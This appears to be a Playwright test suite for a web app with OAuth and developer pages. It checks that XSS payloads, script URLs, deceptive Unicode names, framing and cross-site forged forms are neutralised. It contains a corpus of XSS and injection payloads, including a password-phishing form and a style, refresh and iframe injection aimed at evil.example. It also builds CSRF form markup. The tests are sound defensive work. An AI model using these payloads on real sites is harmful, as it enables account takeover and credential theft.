// Attacks on the pages by users and other sites, in Chromium.

import assert from "node:assert/strict";

import { isInert } from "./inspect.mjs";
import { ask, begin } from "./sign.mjs";
import { people, world } from "./suite.mjs";

const here = world();
const CORPUS = [
  "<script>alert(1)</script>",
  "<svg onload=alert(1)>",
  "\"><img src=x onerror=alert(1)>",
  "'onfocus=alert(1) autofocus='",
  "</title><script>alert(1)//",
  "</textarea><svg onload=alert(1)>",
  "<a href=javascript:alert(1)>x<",
  "<iframe src=//evil.example>",
  "<base href=//evil.example>",
  "&lt;script&gt;alert(1)&#x3c;/i>",
  "{{7*7}}${7*7}<%=7*7%>#{7*7}",
  "<!--<img src=--><x onclick=a()>",
];
/** Fields with larger limits. */
const LONG = [
  "<style>*{background:url(https://evil.example/)}</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=password><button>Sign in</button>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
];

/** The page shows all of these as text, and none has any effect. */
async function shows(person, ...texts) {
  await isInert(person);
  const page = (await person.page.locator("body").innerText()).replace(/\s+/g, " ");
  const fields = await person.page.locator("input, textarea").evaluateAll((all) => all.map((one) => one.value));
  for (const text of texts) {
    assert.ok([page, ...fields].some((known) => known.includes(text)), `${text} on ${person.page.url()}: ${page}`);
  }
}

people(here, "names of people and apps act nowhere", async (person) => {
  const ada = await person();
  await ada.open("/login");
  await ada.signIn();
  for (const [at, text] of CORPUS.entries()) {
    const more = ["--description", LONG[at % LONG.length]];
    const app = here.server.app(text, [here.callback], ...more);
    const wide = LONG[at % LONG.length];
    await ada.open((await begin(here.server, app, here.callback)).address);
    await shows(ada, text, wide);
    await ada.open(ask(app, here.callback).address);
    await shows(ada, text, wide);
    await ada.press("Authorize app");
    await ada.open((await begin(here.server, app, "oob")).address);
    await ada.press(at % 2 ? "Cancel" : "Authorize app");
    await shows(ada, text);
    await ada.open(`/developer/apps/${app.id}`);
    await shows(ada, text, wide);
    await ada.open(`/developer/apps/${app.id}/delete`);
    await shows(ada, text);
  }
  await ada.open("/settings/apps");
  await shows(ada, ...CORPUS);
  await ada.open("/developer/apps");
  await shows(ada, ...CORPUS.slice(-3));
  for (const [at, text] of [...CORPUS, ...LONG].map((text) => text.slice(0, 50)).entries()) {
    if (at % 3) continue;
    const [name, bio] = [`hostile_${at}`, LONG[at % LONG.length]];
    const own = ["--name", text, "--description", bio, "--password", "a long password", "--email", `${name}@example.com`];
    here.server.cli("user", "create", name, ...own);
    const other = await person();
    await other.open("/settings/account");
    await other.signIn(name, "a long password");
    await shows(other, text);
    await other.open(ask({ client_id: here.server.env.CLIENT_ID }, here.server.env.CALLBACK_URL).address);
    await shows(other, text);
    await other.open("/forgotten-password");
    await other.fill({ Email: `${name}@example.com` });
    await other.press("Send link");
    await other.open("/mailbox");
    await isInert(other);
    await other.page.locator("main .list li a").first().click();
    await other.page.locator(".message-text").waitFor();
    await isInert(other);
  }
});

people(here, "what is typed or sent in an address acts nowhere", async (person) => {
  const ada = await person({ userAgent: "<script>alert(1)</script> \"><img src=x onerror=alert(1)>" });
  const app = here.server.app("Reflects", [here.callback]);
  for (const [at, text] of [...CORPUS, ...LONG].entries()) {
    const typed = encodeURIComponent(text);
    const begun = await begin(here.server, app, here.callback);
    const asked = ask(app, here.callback, text);
    const paths = [
      `/login?next=${typed}`, `/login?next=/${typed}`, `/join?next=${typed}&token=${typed}`,
      `${begun.address}&screen_name=${typed}`, `/oauth/authorize?oauth_token=${typed}`, `/oauth/authorize?${typed}=1&${typed}=1`,
      asked.address, `/i/oauth2/authorize?client_id=${typed}`, ask(app, text).address,
      `${ask(app, `${here.callback}?${typed}`).address}`, `/account/reset?token=${typed}`, `/account/confirm?token=${typed}`,
      `/mailbox/${typed}`, `/${typed}`, `/settings/${typed}?${typed}`,
    ];
    for (const [number, path] of paths.entries()) {
      if ((number + at) % 3) continue;
      await ada.open(path);
      if (!ada.isBack()) await isInert(ada);
    }
  }
  await ada.open("/login");
  await ada.signIn(CORPUS[2], "wrong");
  await shows(ada, CORPUS[2]);
  await ada.signIn();
  await ada.open("/settings/sessions");
  await isInert(ada);
  for (const text of [...CORPUS, ...LONG]) {
    await ada.open(`/developer/apps/${app.id}/callbacks`);
    await ada.fill({ "Callback URL": text });
    await ada.press("Test callback URL");
    await shows(ada, text);
  }
  await ada.open("/developer/explain");
  await ada.fill({ Method: "GET", URL: `${here.server.url}/?a=${CORPUS[0]}`, "Authorization header": LONG[2] });
  await ada.fill({ Body: LONG[0], "Your base string": CORPUS[1] });
  await ada.press("Explain signature");
  await shows(ada, CORPUS[1], LONG[2]);
  await ada.open("/developer/apps/new");
  await ada.fill({ Name: CORPUS[0], Description: LONG[0], Website: "https://evil.example/\"onclick=alert(1)", "Callback URLs": LONG[1] });
  await ada.press("Create app");
  await shows(ada, CORPUS[0], LONG[0], LONG[1]);
});

people(here, "addresses that run something are no callbacks and no websites", async (person) => {
  const ada = await person();
  await ada.open("/developer/apps/new");
  await ada.signIn();
  for (const address of ["javascript:alert(1)", "JavaScript:alert(1)//http://", "data:text/html,<script>alert(1)</script>", "vbscript:x"]) {
    await ada.open("/developer/apps/new");
    await ada.fill({ Name: "Runs something", Description: "It tries.", "Callback URLs": address });
    await ada.press("Create app");
    assert.match(await ada.text(), /Please correct the following/, address);
    await ada.fill({ "Callback URLs": here.callback });
    await ada.page.getByLabel("Website", { exact: true }).evaluate((field, value) => {
      field.type = "text";
      field.value = value;
    }, address);
    await ada.press("Create app");
    assert.match(await ada.text(), /Please correct the following/, address);
  }
});

people(here, "names that deceive the eye are refused", async (person) => {
  const ada = await person();
  await ada.open("/developer/apps/new");
  await ada.signIn();
  for (const sign of ["\u202e", "\u2066", "\u200b", "\u2060", "\ufeff", "\u00ad"]) {
    await ada.open("/developer/apps/new");
    await ada.fill({ Name: `Paid${sign}pal`, Description: "It deceives.", "Callback URLs": here.callback });
    await ada.press("Create app");
    assert.match(await ada.text(), /Please correct the following/, `U+${sign.codePointAt(0).toString(16)}`);
  }
});

people(here, "a script that got in would not run, and would be noticed", async (person) => {
  const ada = await person();
  await ada.open("/login");
  await ada.page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'ran'; alert(1)";
    document.body.append(script);
    const image = document.createElement("img");
    image.setAttribute("onerror", "alert(2)");
    image.src = "/nothing";
    document.body.append(image);
    return new Promise((done) => setTimeout(done, 300));
  });
  assert.notEqual(await ada.page.title(), "ran");
  const noticed = ada.trouble.splice(0);
  assert.equal(noticed.length, 2, noticed.join("\n"));
  assert.ok(noticed.every((text) => /Content Security Policy/.test(text)), noticed.join("\n"));
  await assert.rejects(isInert(ada));
});

people(here, "no page stands in a frame of another site", async (person) => {
  const ada = await person();
  await ada.open("/login");
  await ada.signIn();
  const app = here.server.app("Framed", [here.callback]);
  const pages = [
    "/login?switch=1", "/join", "/settings/account", "/settings/security", "/settings/apps", "/settings/sessions", "/logout",
    (await begin(here.server, app, here.callback)).address, ask(app, here.callback).address,
    "/developer/apps", `/developer/apps/${app.id}/keys`, "/developer/apps/new", "/mailbox", "/oauth/authorize", "/", "/nothing/here",
  ];
  for (const path of pages) {
    const frame = `<!doctype html><title>Win</title><iframe src="${here.server.url}${path.replaceAll("&", "&amp;")}"></iframe>`;
    await ada.open(here.browser.site.put("/frame", frame));
    await ada.page.waitForFunction(() => document.querySelector("iframe"));
    const [, inner] = ada.page.frames();
    await inner.waitForLoadState().catch(() => {});
    assert.match(inner.url(), /^chrome-error:/, path);
    const refused = ada.trouble.splice(0);
    assert.ok(refused.length > 0 && refused.every((text) => /frame-ancestors/.test(text)), `${path}: ${refused}`);
  }
});

people(here, "another site answers nothing for a person", async (person) => {
  const ada = await person();
  await ada.open("/login");
  await ada.signIn();
  const app = here.server.app("Forged", [here.callback]);
  const begun = await begin(here.server, app, here.callback);
  const forms = [
    ["/oauth/authorize", { oauth_token: begun.key, decision: "allow" }],
    ["/i/oauth2/authorize", { ...Object.fromEntries(new URL(ask(app, here.callback).address, "http://x").searchParams), decision: "allow" }],
    ["/logout", {}],
    ["/settings/apps/revoke", { id: app.id }],
    ["/developer/apps", { name: "Forged too", description: "x", kind: "web", permission: "read" }],
    [`/developer/apps/${app.id}/delete`, { name: "Forged" }],
  ];
  for (const [action, fields] of forms) {
    const inputs = Object.entries(fields).map(([name, value]) => `<input type=hidden name="${name}" value="${value}">`);
    const html = `<!doctype html><form method=post action="${here.server.url}${action}">${inputs.join("")}<button>Win</button></form>`;
    await ada.open(here.browser.site.put("/forged", html));
    await ada.press("Win");
    assert.ok(!ada.isBack(), action);
    assert.equal(await ada.heading(), "This page has expired", action);
  }
  await ada.open("/developer/apps");
  assert.equal(ada.path(), "/developer/apps", "still signed in");
  assert.match(await ada.text(), /Forged/);
  assert.doesNotMatch(await ada.text(), /Forged too/);
  await ada.open("/settings/apps");
  assert.doesNotMatch(await ada.text(), /Forged/);
});
